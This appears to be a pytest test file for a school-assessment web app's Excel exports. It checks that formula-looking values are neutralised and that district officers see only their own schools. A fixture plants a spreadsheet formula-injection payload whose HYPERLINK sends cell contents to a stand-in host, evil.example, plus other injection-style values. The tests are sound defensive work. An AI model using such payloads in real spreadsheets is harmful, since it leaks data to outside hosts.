"""Every Excel export of the bureau: one row per school, self and verified results, no cell a
formula (formula-looking text kept as text, numbers numeric), and a district officer's exports
and pages holding only that district's schools (checked against the database, oracle-style)."""

from __future__ import annotations

import io
from pathlib import Path
from typing import Any

import pytest
from flask import Flask
from openpyxl import load_workbook
from sqlalchemy import select

from webapp.cli import cli

EVIL_NAME = '=HYPERLINK("http://evil.example/?"&A1,"点我")'


def workbook(data: bytes) -> Any:
    return load_workbook(io.BytesIO(data))


def assert_no_formulas(book: Any) -> None:
    for sheet in book.worksheets:
        assert not str(sheet.title).startswith(("=", "+", "-", "@"))
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)


def table(sheet: Any) -> list[dict[str, Any]]:
    rows = list(sheet.iter_rows(values_only=True))
    header = rows[0]
    return [dict(zip(header, r, strict=False)) for r in rows[1:]]


@pytest.fixture
def evil(app: Flask, world: Any) -> None:
    """School A named like a formula, B finalised by its inspector, a formula in an audit reason."""
    from webapp.extensions import db
    from webapp.models import Assessment, School, User
    from webapp.review import operations as review
    from webapp.rubrics.library import rubric_of

    with app.test_request_context():
        school = db.session.get(School, world["school_a_id"])
        school.name = EVIL_NAME
        school.district.name = "+东区"
        db.session.commit()
        inspector = db.session.get(User, world["inspector_b"])
        review.start_review(world["assessment_b"], inspector)
        b = db.session.get(Assessment, world["assessment_b"])
        rubric_item = next(iter(b.self_results))
        review.record_review(
            b.id,
            inspector,
            b.version,
            review.ReviewInput(rubric_item, {}, override_status="not_met", reason="@SUM(1,2) 实地查看不符"),
        )
        b = db.session.get(Assessment, world["assessment_b"])
        rubric = rubric_of(b.cycle.rubric_record)
        review.confirm_remaining(b.id, inspector, b.version, [i.id for i in review.unreviewed_items(b, rubric)])
        b = db.session.get(Assessment, world["assessment_b"])
        review.finalise(b.id, inspector, b.version)


def test_score_export_has_one_row_per_school_with_self_and_verified(
    app: Flask, world: Any, evil: None, as_user: Any
) -> None:
    response = as_user("admin").get("/admin/results/scores.xlsx")
    assert response.status_code == 200
    assert response.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert "filename*=UTF-8''" in response.headers["Content-Disposition"]
    book = workbook(response.data)
    assert_no_formulas(book)
    assert book.sheetnames == ["学校得分", "要点得分", "评估要点", "说明"]
    rows = {r["学校代码"]: r for r in table(book["学校得分"])}
    assert set(rows) == {"A001", "B001"}
    a, b = rows["A001"], rows["B001"]
    assert a["学校名称"] == "'" + EVIL_NAME  # text, shown as typed, never run
    assert a["所属区县"] == "'+东区"
    assert a["状态"] == "填报中" and a["核定得分"] is None
    assert b["状态"] == "已核定"
    assert all(isinstance(b[k], int | float) and not isinstance(b[k], bool) for k in ("自评得分", "核定得分"))
    assert b["核定得分"] < b["自评得分"]  # the override took points away
    item_columns = [c for c in book["学校得分"][1] if str(c.value).endswith(" 自评")]
    assert item_columns and b[item_columns[0].value] in {"达标", "部分达标", "未达标", "不适用", "未填报"}
    points = {r["学校代码"]: r for r in table(book["要点得分"])}
    numbers = [v for k, v in points["B001"].items() if k.endswith("核定得分") and v is not None]
    assert numbers and all(isinstance(v, int | float) for v in numbers)


def test_cli_export_scores_writes_the_same_table(app: Flask, evil: None, tmp_path: Path) -> None:
    out = tmp_path / "得分.xlsx"
    result = app.test_cli_runner().invoke(cli, ["export", "scores", "--out", str(out)])
    assert result.exit_code == 0, result.output
    assert "已导出 2 所学校的得分" in result.output
    book = workbook(out.read_bytes())
    assert_no_formulas(book)
    assert {r["学校代码"] for r in table(book["学校得分"])} == {"A001", "B001"}
    again = app.test_cli_runner().invoke(cli, ["export", "scores", "--out", str(out)])
    assert again.exit_code == 2 and "文件已存在" in again.output
    east = app.test_cli_runner().invoke(
        cli, ["export", "scores", "--out", str(tmp_path / "e.xlsx"), "--district", "+东区"]
    )
    assert east.exit_code == 0, east.output
    assert {r["学校代码"] for r in table(workbook((tmp_path / "e.xlsx").read_bytes())["学校得分"])} == {"A001"}
    nowhere = app.test_cli_runner().invoke(
        cli, ["export", "scores", "--out", str(tmp_path / "n.xlsx"), "--district", "北区"]
    )
    assert nowhere.exit_code == 1 and "没有名为“北区”的区县" in nowhere.output


def test_school_list_and_audit_exports_are_neutralised(app: Flask, evil: None, as_user: Any) -> None:
    client = as_user("admin")
    schools = workbook(client.get("/admin/schools/export.xlsx").data)
    assert_no_formulas(schools)
    names = {r["学校代码"]: r["学校名称"] for r in table(schools["学校名单"])}
    assert names["A001"] == "'" + EVIL_NAME
    audit = client.get("/admin/audit/export.xlsx")
    assert audit.status_code == 200
    book = workbook(audit.data)
    assert_no_formulas(book)
    reasons = [r["理由"] for r in table(book["操作日志"])]
    assert "'@SUM(1,2) 实地查看不符" in reasons
    ids = [r["编号"] for r in table(book["操作日志"])]
    assert all(isinstance(i, int) for i in ids)


def test_neutralise_covers_every_formula_prefix() -> None:
    from reports.workbooks import Sheet, neutralise, workbook_bytes

    values = ["=1+1", "+1", "-1+A1", "@SUM(A1)", "\t=1", "\r=1", "普通文字", "", "a=b"]
    assert [neutralise(v) for v in values] == [
        "'=1+1",
        "'+1",
        "'-1+A1",
        "'@SUM(A1)",
        "'\t=1",
        "'\r=1",
        "普通文字",
        "",
        "a=b",
    ]
    book = workbook(workbook_bytes([Sheet("=sheet", ["=header", "数"], [[v, -5] for v in values])]))
    assert_no_formulas(book)
    sheet = book.worksheets[0]
    assert sheet.title == "'=sheet"
    assert sheet["A1"].value == "'=header"
    assert all(sheet.cell(row=r, column=2).value == -5 for r in range(2, len(values) + 2))
    assert neutralise("控制\x01字符") == "控制字符"


# --------------------------------------------------------------------------------------------
# District officers: only their own district, on every page and in every export (oracle-style)


NAMES = {"east": "东区", "west": "西区"}


def district_id(app: Flask, district: str) -> int:
    from webapp.extensions import db
    from webapp.models import District

    with app.app_context():
        return db.session.execute(select(District.id).where(District.name == NAMES[district])).scalar_one()


def district_codes(app: Flask, world: Any, district: str) -> set[str]:
    """The oracle: the codes of the district's schools, straight from the database."""
    from webapp.extensions import db
    from webapp.models import School

    with app.app_context():
        return set(
            db.session.execute(select(School.code).where(School.district_id == district_id(app, district))).scalars()
        )


def all_schools(app: Flask) -> dict[str, str]:
    from webapp.extensions import db
    from webapp.models import School

    with app.app_context():
        return {s.code: s.name for s in db.session.execute(select(School)).scalars()}


@pytest.mark.parametrize(("username", "district"), [("district_east", "east"), ("district_west", "west")])
def test_district_exports_hold_only_their_district(
    app: Flask, world: Any, as_user: Any, username: str, district: str
) -> None:
    allowed = district_codes(app, world, district)
    assert allowed  # the oracle is not empty, so the check below means something
    client = as_user(username)
    scores = workbook(client.get("/admin/results/scores.xlsx").data)
    codes = [r["学校代码"] for r in table(scores["学校得分"])]
    assert codes and set(codes) <= allowed
    assert {r["学校代码"] for r in table(scores["要点得分"])} <= allowed
    listed = [r["学校代码"] for r in table(workbook(client.get("/admin/schools/export.xlsx").data)["学校名单"])]
    assert listed and set(listed) <= allowed


@pytest.mark.parametrize(("username", "district"), [("district_east", "east"), ("district_west", "west")])
def test_district_pages_never_show_another_district(
    app: Flask, world: Any, as_user: Any, username: str, district: str
) -> None:
    allowed = district_codes(app, world, district)
    foreign = {code: name for code, name in all_schools(app).items() if code not in allowed}
    assert foreign
    client = as_user(username)
    for url in ("/admin/", "/admin/results", "/admin/results?basis=self", "/admin/schools/", "/admin/schools/?q=B"):
        page = client.get(url)
        assert page.status_code == 200, url
        text = page.data.decode()
        for code, name in foreign.items():
            assert code not in text and name not in text, (url, code)
    other_district = "west" if district == "east" else "east"
    other_school = world["school_b_id"] if district == "east" else world["school_a_id"]
    assert client.get(f"/admin/schools/{other_school}").status_code == 404
    # asking for the other district's rows yields the caller's own view, never the other's
    text = client.get(f"/admin/?district={district_id(app, other_district)}").data.decode()
    assert all(code not in text for code in foreign)
    for admin_page in ("/admin/cycles/", "/admin/users/", "/admin/audit/", "/admin/rubrics/", "/admin/assignments/"):
        assert client.get(admin_page).status_code == 403


def test_exports_are_in_the_audit_log(app: Flask, as_user: Any) -> None:
    from webapp.extensions import db
    from webapp.models import AuditEvent

    as_user("district_east").get("/admin/results/scores.xlsx")
    with app.app_context():
        event = db.session.execute(select(AuditEvent).where(AuditEvent.action == "export")).scalar_one()
        assert event.actor_role == "district" and event.entity == "scores" and event.new["schools"] == 1
        assert event.new["scope"] == "东区（仅本区县学校）"
